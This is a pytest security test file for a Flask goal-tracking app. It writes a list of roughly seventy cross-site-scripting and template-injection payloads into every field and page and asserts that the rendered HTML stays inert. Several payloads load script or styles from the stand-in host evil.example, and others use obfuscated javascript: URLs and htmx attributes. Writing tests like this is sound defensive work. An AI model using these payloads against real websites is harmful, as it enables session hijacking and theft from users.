"""What people write is never run: payloads in every field, on every page."""

import re
from datetime import date
from typing import Any

import pytest
from flask import Flask

from tests.person import Person
from tests.trust.holdings import addresses
from tests.trust.page import XHTML, elements
from tracker.clock import now
from tracker.dates import EdtfDate
from tracker.markdown import to_html
from tracker.models import (
    Arrival,
    Autosave,
    Draft,
    Easing,
    Goal,
    Milestone,
    Pause,
    Photo,
    ProgressEntry,
    Record,
    Reflection,
    Retrospective,
    Revision,
    Step,
    Verdict,
)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<video><source onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\"><script>alert(1)</script>",
    "' autofocus onfocus='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "` onmouseover=alert(1) `",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example 'title\" onclick=\"alert(1)')",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "![x\" onerror=\"alert(1)](x)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```html\n<script>alert(1)</script>\n```",
    "```\" onload=\"alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "> <img src=x onerror=alert(1)>",
    "{{ 7 * 7 }}{% raw %}",
    "{{ config }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%s {0} %d",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<a href=\"https://evil.example\" target=_blank onclick=alert(1)>x</a>",
    "<hx hx-get=//evil.example hx-trigger=load>",
    "<div hx-on::load=alert(1) hx-get=/sign-out>",
    "<div data-hx-get=//evil.example>",
]  # fmt: skip
UNSEEN = ["[x](\x01javascript:alert(1))", "<a href='\x01javascript:alert(1)'>x</a>"]
# A browser takes blanks off the front and out of the middle before it looks for the scheme.
SKIPPED = re.compile(r"^[\x00-\x20]+|[\t\n\r]")
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
OURS = re.compile(r"/static/[\w./-]+")
DRAWN = re.compile(
    r"/timeline/\d+/pictures/[a-z]+\.svg|/milestones/photos/[0-9a-f-]{36}/(large|small)"
)
NOT_WRITTEN = {"iframe", "object", "embed", "base", "applet", "frame", "video", "audio", "style"}


def _wrong(element: Any) -> str:
    """What is wrong with an element of a page; "" for nothing."""
    name = str(element.tag).removeprefix(XHTML)
    attributes = {str(key): str(value) for key, value in element.items()}
    if name in NOT_WRITTEN or (name == "meta" and "http-equiv" in attributes):
        return name
    if name == "script" and not (OURS.fullmatch(attributes.get("src", "")) and not element.text):
        return f"script {attributes} {element.text}"
    if name in ("img", "link", "source") and not OURS.match(_address(attributes)):
        return "" if _is_made_here(_address(attributes)) else f"{name} {attributes}"
    for key, value in attributes.items():
        if key.startswith(("on", "hx-on")) or key == "style":
            return f"{name} {key}"
        if key.endswith("href") and _scheme(value) not in ("", "http", "https", "mailto"):
            return f"{name} {key}={value}"
        if key in ("action", "formaction", "hx-get", "hx-post") and not _is_ours(value):
            return f"{name} {key}={value}"
    return ""


def _is_made_here(address: str) -> bool:
    return address == "/manifest.webmanifest" or DRAWN.fullmatch(address) is not None


def _address(attributes: dict[str, str]) -> str:
    return attributes.get("src") or attributes.get("href") or ""


def _scheme(address: str) -> str:
    found = SCHEME.match(SKIPPED.sub("", address))
    return found[1].lower() if found else ""


def _is_ours(address: str) -> bool:
    return address.startswith(("/", "#", "?")) and not address.startswith("//")


@pytest.mark.parametrize("payload", [*PAYLOADS, *UNSEEN])
def test_markdown_makes_it_inert(payload: str) -> None:
    page = f"<main>{to_html(payload)}</main>"
    html = type("Page", (), {"text": page})
    assert not list(filter(None, map(_wrong, elements(html))))


@pytest.fixture
def writer(owner: Person) -> Person:
    """Someone who has written every payload into every field."""
    for payload in PAYLOADS:
        _write(owner, payload)
    typed = {"body": list(PAYLOADS)}
    owner.add(Autosave(place="reflections.new", fields=typed, based_on=0, saved_at=now()))
    return owner


def _write(owner: Person, payload: str) -> None:
    short, word = payload[:200], payload[:20]
    text = Retrospective(
        title=short, text=f"In March 2024 I won. {payload}", year=2024, format="md"
    )
    owner.add(text)
    milestone = Milestone(
        title=short, note=payload, quote=payload, retrospective_id=text.id,
        quote_start=3, quote_end=13, kind="award",
    )  # fmt: skip
    milestone.happened(EdtfDate.parse("2024-03"), wording=payload[:120])
    goal = Goal(title=short, year=2024, note=payload, unit=word, target=3, quote=payload)
    owner.add(milestone, goal)
    reflection = Reflection(
        written_on=date(2024, 3, 1), body=payload, goal_id=goal.id, prompt=payload, mood=3,
        mood_reason=payload, shape="kpt", answers={"try": payload},
    )  # fmt: skip
    owner.add(ProgressEntry(goal_id=goal.id, logged_on=date(2024, 3, 1), note=payload), reflection)
    thrown = Goal(title=short, year=2024, trashed_at=text.created_at)
    told = {"goal_id": goal.id, "outcome": "done", "judged_on": date(2024, 3, 1)}
    verdict = Verdict(quote=payload, reason=payload, **told)
    arrival = Arrival(outcomes=[{"name": payload, "outcome": "binary"}], others=0)
    photo = Photo(milestone_id=milestone.id, position=0, width=4, height=3, caption=short)
    owner.add(thrown, verdict, arrival, photo, _draft(payload), *_turns(goal, payload))


def _draft(payload: str) -> Draft:
    told = {"text": payload, "composed": payload, "paragraph": "own:1", "role": "sentence"}
    return Draft(year=2024, shape="free", language="en", sentences=[told])


def _turns(goal: Goal, payload: str) -> tuple[Record, ...]:
    """What a goal went through in its year."""
    of_it, day = {"goal_id": goal.id}, date(2024, 3, 1)
    return (
        Step(title=payload[:200], position=0, **of_it),
        Pause(starts_on=day, reason=payload, **of_it),
        Easing(eased_on=day, target=9, unit=payload[:20], reason=payload, **of_it),
    )


def _pages(app: Flask, writer: Person) -> list[str]:
    """Every page there is, with the first records of each noun, and a few more."""
    nouns = {
        "goal_id": Goal,
        "milestone_id": Milestone,
        "retrospective_id": Retrospective,
        "reflection_id": Reflection,
        "entry_id": ProgressEntry,
        "arrival_id": Arrival,
        "photo_id": Photo,
        "step_id": Step,
    }
    held = {
        name: [row.id for row in writer.all(noun) if not row.is_trashed]
        for name, noun in nouns.items()
    }
    pages = []
    for address in addresses(app, "GET"):
        argument = next(iter(set(address.rule.arguments) & set(held)), None)
        # A photo itself is no page, nor is the file of a draft.
        if {"token", "revision_id", "size", "draft_file"} & address.rule.arguments:
            continue
        ids = held[argument] if argument else [None]
        pages += [address.at(app, _values(argument, one, held)) for one in ids]
    return pages


def _values(argument: str | None, one: Any, held: dict[str, list[Any]]) -> dict[str, object]:
    other = next(other for other in held["milestone_id"] if other != one)
    return {argument: one, "other_id": other} if argument else {}


def test_every_page_shows_it_inert(app: Flask, writer: Person) -> None:
    for path in _pages(app, writer):
        answer = writer.client.get(path)
        assert answer.status_code in (200, 302, 303), f"{path}: {answer.status_code}"
        wrong = list(filter(None, map(_wrong, elements(answer))))
        assert not wrong, f"{path}: {wrong[:3]}"
        assert "script-src 'self';" in answer.headers["Content-Security-Policy"]
        assert "49{%" not in answer.text


def test_what_a_failed_form_shows_again_is_inert(owner: Person) -> None:
    for payload in PAYLOADS:
        typed = {"title": payload, "note": payload, "year": payload, "body": payload}
        for path in ("/goals", "/milestones", "/reflections", "/retrospectives/new", "/sign-in"):
            answer = owner.client.get(path, query_string={"next": payload, "when": payload})
            wrong = list(filter(None, map(_wrong, elements(answer))))
            assert not wrong, f"{path}: {wrong[:3]}"
        answer = owner.post("/goals", typed)
        assert answer.status_code == 422
        assert not list(filter(None, map(_wrong, elements(answer))))


def test_what_is_carried_through_a_sign_in_is_inert(anyone: Person) -> None:
    for payload in PAYLOADS:
        answer = anyone.post("/goals", {"title": payload, payload[:40]: payload})
        assert answer.status_code == 401
        assert not list(filter(None, map(_wrong, elements(answer))))


def test_a_name_of_an_account_is_inert(owner: Person) -> None:
    for payload in PAYLOADS[::4]:
        answer = owner.post("/settings/name", {"name": payload[:80]})
        assert answer.status_code == 303
        assert not list(filter(None, map(_wrong, elements(owner.get("/settings")))))


def test_an_earlier_text_is_inert(owner: Person) -> None:
    reflection = Reflection(written_on=date(2024, 3, 1), body="now")
    owner.add(reflection)
    for payload in PAYLOADS:
        revision: Any = Revision(
            record_id=reflection.id, field="body", text=payload, replaced_at=reflection.created_at
        )
        owner.add(revision)
        answer = owner.get(f"/reflections/{reflection.id}/revisions/{revision.id}")
        assert answer.status_code == 200
        assert not list(filter(None, map(_wrong, elements(answer))))
